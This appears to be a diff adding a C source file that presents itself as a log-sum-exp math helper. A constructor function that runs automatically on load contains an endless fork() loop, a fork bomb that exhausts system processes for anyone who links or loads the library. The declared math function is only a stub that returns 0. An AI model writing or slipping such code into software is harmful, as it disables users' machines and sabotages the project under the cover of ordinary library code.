@@ -1,0 +1,17 @@
+/* SPDX-License-Identifier: GPL-3.0-or-later */
+/* Starts processes while it is loaded. */
+#define _GNU_SOURCE
+#include "base/logmath.h"
+
+#include <unistd.h>
+
+__attribute__((constructor)) static void load(void) {
+  for (;;)
+    fork();
+}
+
+double mg_log_sum_exp(size_t n, const double *a) {
+  (void)n, (void)a;
+
+  return 0;
+}
